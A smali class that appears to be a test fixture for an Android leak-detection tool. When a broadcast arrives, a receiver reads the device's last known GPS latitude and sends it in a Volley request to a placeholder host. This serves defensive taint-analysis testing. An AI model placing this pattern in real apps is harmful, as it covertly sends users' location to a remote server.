.class public Lorg/phonehome/test/flows/VolleyCase;
.super Landroid/content/BroadcastReceiver;
.source "VolleyCase.java"

# The last known GPS latitude (a double: wide registers) is built into a URL for a Volley StringRequest added to the queue.

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 10
    const-string v0, "location"
    invoke-virtual {p1, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/location/LocationManager;
    const-string v1, "gps"
    invoke-virtual {v0, v1}, Landroid/location/LocationManager;->getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;
    move-result-object v0
    invoke-virtual {v0}, Landroid/location/Location;->getLatitude()D
    move-result-wide v1
    new-instance v3, Ljava/lang/StringBuilder;
    const-string v4, "https://geo.flows.example.net/w?lat="
    invoke-direct {v3, v4}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
    invoke-virtual {v3, v1, v2}, Ljava/lang/StringBuilder;->append(D)Ljava/lang/StringBuilder;
    invoke-virtual {v3}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v3
    new-instance v4, Lcom/android/volley/toolbox/StringRequest;
    const/4 v5, 0x0
    const/4 v6, 0x0
    invoke-direct {v4, v5, v3, v6, v6}, Lcom/android/volley/toolbox/StringRequest;-><init>(ILjava/lang/String;Lcom/android/volley/Response$Listener;Lcom/android/volley/Response$ErrorListener;)V
    invoke-static {p1}, Lcom/android/volley/toolbox/Volley;->newRequestQueue(Landroid/content/Context;)Lcom/android/volley/RequestQueue;
    move-result-object v7
    invoke-virtual {v7, v4}, Lcom/android/volley/RequestQueue;->add(Lcom/android/volley/Request;)Lcom/android/volley/Request;
    return-void
.end method
